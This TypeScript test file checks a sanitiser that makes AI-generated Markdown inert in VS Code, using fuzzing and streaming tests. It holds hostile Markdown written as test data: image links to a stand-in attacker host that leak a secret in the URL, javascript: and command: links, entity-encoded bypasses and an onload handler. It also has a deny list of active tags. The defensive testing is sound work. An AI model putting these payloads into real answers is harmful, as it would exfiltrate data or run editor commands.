import * as assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { inertMarkdown } from '../../src/core/common/inertMarkdown';
import { InertMarkdownStream } from '../../src/core/common/inertMarkdownStream';
import { ATTACKER_HOST, HOSTILE_ANSWERS } from '../fixtures/hostile-answers';

/** The most permissive renderer there is (raw HTML on): what is inert here is inert in any Markdown surface. */
const permissive = new MarkdownIt({ html: true, linkify: true });
const { window } = new JSDOM('<!doctype html><body></body>');

const ACTIVE_TAGS = new Set(['script', 'iframe', 'object', 'embed', 'img', 'svg', 'math', 'form', 'input', 'button', 'link', 'meta', 'base', 'style', 'video', 'audio', 'source', 'picture', 'details', 'marquee', 'template', 'noscript', 'table', 'body', 'div', 'a']);

/** VS Code's own Markdown surfaces render with marked (GFM), which links bare addresses and reads some text differently. */
function renderWithMarked(markdown: string): string {
  return marked.parse(markdown, { async: false, gfm: true });
}

function elementsOf(markdown: string, render: (markdown: string) => string = (text) => permissive.render(text)): Element[] {
  const container = window.document.createElement('div');
  container.innerHTML = render(markdown);
  return Array.from(container.querySelectorAll('*'));
}

const RENDERERS = [
  { name: 'markdown-it with HTML on', render: (text: string) => permissive.render(text) },
  { name: 'marked (GFM)', render: renderWithMarked },
];

/** What must never come out of either renderer: an element other than these, a link other than web or mail, an attribute that acts. */
const SAFE_TAGS = new Set(['p', 'em', 'strong', 'code', 'pre', 'a', 'ul', 'ol', 'li', 'blockquote', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'del', 's']);
const SAFE_ATTRIBUTES = new Set(['href', 'title', 'start', 'style', 'align', 'class']);

function assertInert(markdown: string, source: string): void {
  for (const { name, render } of RENDERERS) {
    for (const element of elementsOf(markdown, render)) {
      const tag = element.tagName.toLowerCase();
      const where = `${name}, <${tag}> from ${JSON.stringify(source)} as ${JSON.stringify(markdown)}`;
      assert.ok(SAFE_TAGS.has(tag), where);
      if (tag === 'a') assert.match(element.getAttribute('href') ?? '', /^(https?:\/\/|mailto:)/i, `link in ${where}`);
      for (const attribute of Array.from(element.attributes)) {
        assert.ok(SAFE_ATTRIBUTES.has(attribute.name), `${attribute.name} in ${where}`);
        if (attribute.name === 'style') assert.match(attribute.value, /^text-align:(left|right|center)$/, where);
      }
    }
  }
}

describe('model text made inert for VS Code\'s Markdown surfaces', () => {
  it('the corpus holds at least 50 hostile answers', () => assert.ok(HOSTILE_ANSWERS.length >= 50));

  for (const hostile of HOSTILE_ANSWERS) {
    it(`${hostile.name}: no tag, no image, no handler, no style even with HTML rendering on`, () => {
      for (const element of elementsOf(inertMarkdown(hostile.markdown))) {
        const tag = element.tagName.toLowerCase();
        if (tag === 'a') {
          // Links stay links (a click opens them through VS Code's own prompt); never anything else.
          assert.match(element.getAttribute('href') ?? '', /^(https?:|mailto:|[^:]*$)/i, `link ${element.outerHTML}`);
          continue;
        }
        assert.ok(!ACTIVE_TAGS.has(tag), `<${tag}> from ${JSON.stringify(hostile.markdown)}: ${element.outerHTML}`);
        for (const attribute of Array.from(element.attributes)) {
          assert.ok(!/^on|^style$|^src|href$|^background$|^action$|^formaction$/i.test(attribute.name), `${attribute.name} on <${tag}>`);
        }
      }
    });
  }

  for (const hostile of HOSTILE_ANSWERS) {
    it(`${hostile.name}: only safe elements and web links, in markdown-it and in marked`, () => {
      assertInert(inertMarkdown(hostile.markdown), hostile.markdown);
    });
  }

  it('a remote image becomes a plain link to the same address, and nothing else changes', () => {
    const html = permissive.render(inertMarkdown(`See ![chart](https://${ATTACKER_HOST}/c.png) here.`));
    assert.equal(html, `<p>See !<a href="https://${ATTACKER_HOST}/c.png">chart</a> here.</p>\n`);
  });

  it('a backslash in a code span is literal: the span ends at the next backtick and the image after it is only a link', () => {
    const answer = `\`a\\\`![x](https://${ATTACKER_HOST}/p.png?d=SECRET)`;
    assert.match(permissive.render(answer), /<img/, 'the payload is live in a plain renderer');
    const inert = inertMarkdown(answer);
    for (const { render } of RENDERERS) {
      const html = render(inert);
      assert.doesNotMatch(html, /<img/);
      assert.match(html, /<code>a\\<\/code>/);
      assert.match(html, new RegExp(`<a href="https://${ATTACKER_HOST}/p.png\\?d=SECRET">x</a>`));
    }
  });

  it('destinations are judged after entities and escapes are decoded: command&colon; and vscode&colon; links are text', () => {
    for (const answer of ['[run](command&colon;workbench.action.quit)', '[r][v]\n\n[v]: vscode&colon;//evil/x', '[run](command\\:x)']) {
      assert.match(new MarkdownIt().render(answer), /href="(command|vscode):/i, `live in a plain renderer: ${answer}`);
      const inert = inertMarkdown(answer);
      for (const { render } of RENDERERS) assert.doesNotMatch(render(inert), /<a /, `${answer} as ${inert}`);
    }
    assert.equal(inertMarkdown('[run](command&colon;workbench.action.quit)'), 'run (command:workbench.action.quit)');
  });

  it('theme icons and math show as written', () => {
    assert.equal(inertMarkdown('$(check) passed, cost $3'), '\\$(check) passed, cost \\$3');
  });

  it('code spans and fenced blocks keep their text exactly', () => {
    const text = 'Use `a < b && !c` and ``x ` y`` then\n\n```html\n<img src="x"> ![a](b)\n```\n\nend <b>bold</b>';
    const inert = inertMarkdown(text);
    assert.ok(inert.includes('`a < b && !c`'));
    assert.ok(inert.includes('``x ` y``'));
    assert.ok(inert.includes('```html\n<img src="x"> ![a](b)\n```'));
    assert.ok(inert.endsWith('end \\<b>bold\\</b>'));
    assert.equal(elementsOf(inert).filter((e) => e.tagName === 'B').length, 0);
  });

  it('a fence line that would close the fence once de-indented stays as written', () => {
    const text = '  ```\n      ```\n  <img src=x>\n  ```\n\nafter';
    const inert = inertMarkdown(text);
    assert.equal(permissive.render(inert), permissive.render(text));
  });

  it('a megabyte of unmatched backticks, brackets or blanks is handled', function () {
    this.timeout(20_000);
    for (const text of [`${'` <'.repeat(300_000)}![x](y)`, `${'['.repeat(500_000)}x`, `${'*a '.repeat(300_000)}`, `${'> '.repeat(50_000)}x`]) {
      assertInert(inertMarkdown(text).slice(-2000), text.slice(-100));
    }
  });
});

/** A seeded generator of numbers in [0, 1), so that a failing case can be replayed. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

function generate(next: () => number, fragments: readonly string[], most: number): string {
  const count = 1 + Math.floor(next() * most);
  let text = '';
  for (let i = 0; i < count; i++) text += fragments[Math.floor(next() * fragments.length)];
  return text;
}

/** Pieces of syntax an attacker can combine: backslashes, backtick runs, nesting, entities, definitions, autolinks, HTML. */
const HOSTILE_FRAGMENTS = [
  '`', '``', '```', '````', '\\', '\\`', '!', '[', ']', '(', ')', '<', '>', ' ', '\n', '\n\n', '    ', '*', '_', '-', '#', '|', '~', '$', ':',
  '&', '"', 'a', '1. ', '> ', '- ', '|---|', '[r]: ', '&colon;', '&#58;', '&#x3a;', '&amp;', 'javascript:', 'command:x', 'vscode://x',
  `![x](https://${ATTACKER_HOST}/p.png)`, '[y](command:evil)', `https://${ATTACKER_HOST}/i.png`, `www.${ATTACKER_HOST}`, '$(alert)',
  `<img src=https://${ATTACKER_HOST}/i>`, `<https://${ATTACKER_HOST}/a>`, '<command:x>', '<!-- ', '-->', '<div>', '</div>', 'mailto:a@b.c',
];

/** Syntax without links, images or HTML: what comes out must render exactly as what went in. */
const PLAIN_FRAGMENTS = [
  '`', '``', '```', '\\', '*', '**', '_', '__', '~~', '-', '+', '#', '|', '=', '1.', '2)', '>', 'a', 'bc', 'snake_case', ' ', '\n',
  '\n\n', '  ', '    ', '---', '***', '~~~', '[a]', ':', 'x.y', '-\n', ':-', '- a\n', '1. b\n', '> q\n', '| a | b |\n|---|---|\n', '```js\n',
];

/** The markdown-it reading Reasoner writes from (CommonMark, tables, strikethrough, no reference definitions). */
const reference = new MarkdownIt('commonmark').enable(['table', 'strikethrough']);
reference.block.ruler.disable('reference');

/**
 * Differences that are not a change of meaning: a code block's language class (only a word is
 * kept), a closing newline, emphasis whose delimiter run was split with text, line breaks in a heading.
 */
function comparable(html: string): string {
  return html
    .replace(/ class="language-[^"]*"/g, '')
    .replace(/\n<\/code>/g, '</code>')
    .replace(/<\/?(em|strong|s)>/g, '')
    .replace(/[*_~]/g, '')
    .replace(/<br \/>\n?/g, ' ')
    .replace(/(<h\d>)([^]*?)(<\/h\d>)/g, (_match, open: string, text: string, close: string) => `${open}${text.replace(/\s+/g, ' ').trim()}${close}`);
}

describe('inert Markdown against markdown-it and marked over a generated corpus', () => {
  it('4,000 generated hostile answers render to safe elements and web links only, in both renderers', function () {
    this.timeout(120_000);
    const next = random(25);
    for (let i = 0; i < 4_000; i++) {
      const answer = generate(next, HOSTILE_FRAGMENTS, 24);
      assertInert(inertMarkdown(answer), answer);
    }
  });

  it('4,000 generated answers without links or HTML render as they were written', function () {
    this.timeout(120_000);
    const next = random(7);
    for (let i = 0; i < 4_000; i++) {
      const answer = generate(next, PLAIN_FRAGMENTS, 24);
      const inert = inertMarkdown(answer);
      assert.equal(comparable(reference.render(inert)), comparable(reference.render(answer)), `${JSON.stringify(answer)} as ${JSON.stringify(inert)}`);
    }
  });
});


/** Random cuts of 1 to 12 characters. */
function splitter(seed: number): (text: string) => string[] {
  const next = random(seed);
  return (text) => {
    const pieces: string[] = [];
    for (let at = 0; at < text.length;) {
      const size = 1 + Math.floor(next() * 12);
      pieces.push(text.slice(at, at + size));
      at += size;
    }
    return pieces;
  };
}

function streamed(pieces: readonly string[]): { whole: string; shownBeforeEnd: string } {
  const stream = new InertMarkdownStream();
  let shown = '';
  for (const piece of pieces) shown += stream.push(piece);
  return { whole: shown + stream.end(), shownBeforeEnd: shown };
}

/** Answers whose escaping depends on what comes later: spans, fences, destinations and definitions cut anywhere. */
const LOOKAHEAD_ANSWERS = [
  'Prose that runs on for a while, with `code < spans` and a [web link](https://example.com/a b) and an ![image](https://x/y.png).',
  'A [link](\ncommand:evil.run) whose destination is on the next line, and [another](  <command:x>) after blanks.',
  '[ref]:\n  command:evil\n\n[ok]: https://example.com\n   [three]: vscode:x\n    [four]: command:y',
  'An unclosed `span with <b>tags</b> that\nruns over lines\n\nand a blank line ``double ` inside`` end.',
  '```ts\nconst a = 1 < 2;\n``` not a close\n````\nstill code <img>\n```\n\n~~~\n<script>x</script>\n~~~\nafter <i>it</i>',
  '   ```\n  indented fence <b>\n   ```\n    ``` four spaces: not a fence <b>',
  'Escapes \\` keep \\<b> and \\![a](b) \\](command:x) and a trailing backslash\\\nnext',
  '- item with ![img](https://x) and `code`\n> quote <svg onload=x>\n1. [x](javascript:alert(1))',
];

describe('inert Markdown streamed piece by piece', () => {
  const answers = [...HOSTILE_ANSWERS.map((hostile) => hostile.markdown), ...LOOKAHEAD_ANSWERS];

  it('whatever the pieces, what is shown equals inertMarkdown of the whole answer', () => {
    let checks = 0;
    answers.forEach((answer, index) => {
      const expected = inertMarkdown(answer);
      assert.equal(streamed([...answer]).whole, expected, `one character at a time: ${JSON.stringify(answer)}`);
      for (let seed = 1; seed <= 40; seed++) {
        const pieces = splitter(seed * 7919 + index)(answer);
        assert.equal(streamed(pieces).whole, expected, `seed ${seed}: ${JSON.stringify(pieces)}`);
        checks++;
      }
    });
    assert.ok(checks > 2000, `${checks} splits`);
  });

  it('whatever the pieces, a generated answer streams to inertMarkdown of the whole', () => {
    const next = random(99);
    for (let i = 0; i < 600; i++) {
      const answer = generate(next, [...HOSTILE_FRAGMENTS, ...PLAIN_FRAGMENTS], 30);
      const pieces = splitter(i + 1)(answer);
      let whole: string;
      try {
        whole = streamed(pieces).whole;
      } catch (error) {
        assert.fail(`${String(error)}: ${JSON.stringify(pieces)}`);
      }
      assert.equal(whole, inertMarkdown(answer), JSON.stringify(pieces));
    }
  });

  it('a block is handed on once the next block begins', () => {
    const stream = new InertMarkdownStream();
    assert.equal(stream.push('The function <b>adds'), '');
    assert.equal(stream.push(' two numbers.\n'), '', 'the next line could still continue the paragraph');
    assert.equal(stream.push('\n## Use | a'), '');
    assert.equal(stream.push('\n'), 'The function \\<b>adds two numbers.');
    assert.equal(stream.push('Call it `a\\`![x](https://e/p.png)\n'), '\n\n## Use \\| a', 'a heading is kept until the next line: with a delimiter row it would be a table');
    assert.equal(stream.end(), '\n\nCall it `a\\`\\![x](<https://e/p.png>)');
  });

  it('a fenced block is handed on line by line, its opening line once complete', () => {
    const stream = new InertMarkdownStream();
    assert.equal(stream.push('``'), '');
    assert.equal(stream.push('`ts {onload}\nconst a <b'), '', 'the opening line alone could still be a table header');
    assert.equal(stream.push('\n``'), '```ts\nconst a <b\n', 'the language only, not the rest of the info string');
    assert.equal(stream.push('`\n<i>'), '```');
    assert.equal(stream.end(), '\n\n\\<i>');
  });

  it('preview() is the answer so far, whole, and leaves the stream as it was', () => {
    const answer = '# Title\n\nText with `code` and <b>\n\n- a\n- b\n\n```js\nx < 1\n';
    const stream = new InertMarkdownStream();
    let shown = '';
    for (const piece of splitter(3)(answer)) shown += stream.push(piece);
    const preview = stream.preview();
    assert.equal(shown + preview, inertMarkdown(answer));
    assert.equal(stream.end(), preview);
  });

  it('a megabyte of hostile text in small pieces is handled in one pass', function () {
    this.timeout(120_000);
    const MIB = 1024 * 1024;
    for (const text of [
      `\`${' <'.repeat(MIB / 2)}`,
      `[a](${' '.repeat(MIB)}command:x)`,
      `[a]: ${'\n'.repeat(MIB)}`,
      '<'.repeat(MIB),
      `\`\`\`\n${'x'.repeat(MIB)}`,
      `[${'a '.repeat(MIB / 2)}`,
      '- item <b>\n'.repeat(MIB / 12),
      `> ${'quoted `line\n'.repeat(MIB / 14)}`,
    ]) {
      const pieces: string[] = [];
      for (let at = 0; at < text.length; at += 7) pieces.push(text.slice(at, at + 7));
      assert.equal(streamed(pieces).whole, inertMarkdown(text));
    }
  });
});
